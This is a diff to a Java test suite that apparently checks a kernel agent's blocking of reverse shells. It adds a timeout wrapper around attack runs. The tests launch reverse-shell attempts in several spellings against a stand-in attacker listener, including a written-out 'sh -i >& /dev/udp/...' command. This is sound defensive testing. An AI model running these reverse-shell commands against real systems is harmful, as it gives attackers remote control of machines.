@@ -251,13 +251,20 @@ class ReverseShellKernelTest {
         };
     }
 
+    /** Runs an attack in a cgroup, bounded: where nothing stops it, a shell on UDP would wait for input for ever. */
+    private static KernelAgentExtension.Run run(Path cg, List<String> argv) throws IOException, InterruptedException {
+        List<String> bounded = new ArrayList<>(List.of("timeout", "-s", "KILL", "30"));
+        bounded.addAll(argv);
+        return KERNEL.runIn(cg, bounded.toArray(String[]::new));
+    }
+
     /** Stopped by the shell connect rule: EPERM, no connection at all. */
     @ParameterizedTest
     @ValueSource(strings = {"bash-i", "exec-fd", "base64", "script-file", "nc-e", "ncat-sh-exec", "mkfifo"})
     void shellOrRelayConnectingOutIsRefusedWhateverTheSpelling(String spelling) throws Exception {
         try (Listener l = new Listener(ATTACKER)) {
             Path cg = guardedCgroup("shell-" + spelling);
-            KERNEL.runIn(cg, attack(spelling, ATTACKER, l.port()).toArray(String[]::new));
+            run(cg, attack(spelling, ATTACKER, l.port()));
             List<Event> denied = KERNEL.await(e -> e.getProcess().getCgroupId() == KERNEL.cgroupId(cg) && e.hasConnect()
                     && e.getConnect().getShell() && e.getConnect().getVerdict() == Verdict.VERDICT_DENIED, 1,
                     Duration.ofSeconds(10));
@@ -275,7 +282,7 @@ class ReverseShellKernelTest {
     void remoteSocketPutOnStdioKillsTheProcess(String spelling) throws Exception {
         try (Listener l = new Listener(ATTACKER)) {
             Path cg = guardedCgroup("stdio-" + spelling);
-            KernelAgentExtension.Run run = KERNEL.runIn(cg, attack(spelling, ATTACKER, l.port()).toArray(String[]::new));
+            KernelAgentExtension.Run run = run(cg, attack(spelling, ATTACKER, l.port()));
             if (!spelling.equals("renamed-ncat")) {   // ncat dup2s in a child it forked: the child dies
                 assertThat(run.exitStatus()).as(run.stdout()).isEqualTo(128 + 9);
             }
@@ -302,7 +309,7 @@ class ReverseShellKernelTest {
     void withoutTheKeysTheSameAttackGetsAShell(String spelling) throws Exception {
         try (Listener l = new Listener(ATTACKER)) {
             Path cg = unguardedCgroup("open-" + spelling);
-            KERNEL.runIn(cg, attack(spelling, ATTACKER, l.port()).toArray(String[]::new));
+            run(cg, attack(spelling, ATTACKER, l.port()));
             assertThat(l.awaitMarker(Duration.ofSeconds(20))).as("the shell answered: " + l.all()).isTrue();
         }
     }
@@ -312,7 +319,7 @@ class ReverseShellKernelTest {
         try (DatagramSocket attacker = new DatagramSocket(new InetSocketAddress(InetAddress.getByName(ATTACKER), 0))) {
             attacker.setSoTimeout(1);
             Path cg = guardedCgroup("udp");
-            KERNEL.runIn(cg, "bash", "-c", "sh -i >& /dev/udp/" + ATTACKER + "/" + attacker.getLocalPort() + " 0>&1");
+            run(cg, List.of("bash", "-c", "sh -i >& /dev/udp/" + ATTACKER + "/" + attacker.getLocalPort() + " 0>&1"));
             List<Event> denied = KERNEL.await(e -> e.getProcess().getCgroupId() == KERNEL.cgroupId(cg) && e.hasConnect()
                     && e.getConnect().getShell() && e.getConnect().getVerdict() == Verdict.VERDICT_DENIED, 1,
                     Duration.ofSeconds(10));
